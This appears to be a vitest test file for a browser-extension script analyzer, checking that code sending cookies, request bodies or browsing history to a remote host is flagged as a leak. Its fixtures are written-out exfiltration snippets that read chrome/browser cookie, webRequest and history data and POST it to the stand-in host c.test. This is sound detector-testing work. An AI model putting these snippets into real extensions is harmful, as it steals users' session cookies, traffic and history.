import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf } from "../testing/trace-of.ts";

const SEND = (what: string): string => `fetch("https://c.test/", { method: "POST", body: JSON.stringify(${what}) });`;

describe("what an extension is given of all sites", () => {
	test.each([
		["cookies", `chrome.cookies.getAll({}, (list) => { ${SEND("list")} });`, "cookie"],
		["one cookie", `chrome.cookies.get({ name: "xs" }, ({ value }) => { ${SEND("value")} });`, "cookie"],
		[
			"one cookie by a promise",
			`browser.cookies.get({ name: "xs" }).then((found) => { ${SEND("found.value")} });`,
			"cookie",
		],
		[
			"one cookie in a function of its own",
			`chrome.cookies.get({ name: "xs" }, keep); function keep(cookie) { const kept = { value: cookie.value }; ${SEND("kept")} }`,
			"cookie",
		],
		["cookies by a promise", `browser.cookies.getAll({}).then((list) => { ${SEND("list[0].value")} });`, "cookie"],
		[
			"traffic",
			`chrome.webRequest.onBeforeRequest.addListener((details) => { ${SEND("details.requestBody")} }, {});`,
			"request",
		],
		["the history", `chrome.history.search({}, (list) => { ${SEND("list")} });`, "address"],
	])("%s", (_title, code, kind) => {
		expect(sinksOf(code)).toContainEqual(expect.stringContaining(`body ${kind}`));
	});

	test("is a leak when it is sent away", () => {
		expect(analyzeScript({ code: `chrome.cookies.getAll({}, (list) => { ${SEND("list")} });` }).risk_level).toBe("red");
		expect(
			analyzeScript({ code: "chrome.cookies.getAll({}, (list) => { document.title = list.length; });" }).risk_level,
		).toBe("green");
	});
});
